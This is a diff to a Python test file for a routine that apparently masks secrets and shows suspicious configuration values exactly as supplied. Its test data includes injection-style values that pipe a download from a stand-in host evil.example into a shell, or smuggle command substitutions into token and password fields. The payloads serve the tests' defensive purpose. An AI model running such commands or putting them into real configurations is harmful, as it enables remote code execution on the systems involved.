@@ -76,6 +76,8 @@ def test_what_could_pass_for_another_character_is_written_by_its_number(text: st
         {"run": '--token "x; curl http://evil.example/x | sh"'},
         {"run": "TOKEN='$(curl http://evil.example/x)' cmd"},
         {"env": [{"name": "API_TOKEN", "value": "{{ .Values.x }}"}]},
+        {"args": ["--secrets", "image=evil"]},
+        {"run": "app --credentials=command=/tmp/evil"},
         {"password": "$(curl evil.example)"},
         {"password": "a\nb"},
         {"apiKey": "p\u0430ss"},
@@ -93,6 +95,8 @@ def test_what_could_do_something_is_shown_as_it_was_supplied(value: Any) -> None
         ({"password": "hunter2"}, {"password": "«7 characters»"}),
         ({"apiToken": 123456}, {"apiToken": "«6 characters»"}),
         ({"args": ["--password", "hunter2"]}, {"args": ["--password", "«7 characters»"]}),
+        ({"args": ["--secrets", "db=hunter2"]}, {"args": ["--secrets", "«10 characters»"]}),
+        ({"args": ["--token=image", "x=="]}, {"args": ["--token=«5 characters»", "x=="]}),
         (
             {"env": [{"name": "DB_PASSWORD", "value": "x=="}]},
             {"env": [{"name": "DB_PASSWORD", "value": "«3 characters»"}]},
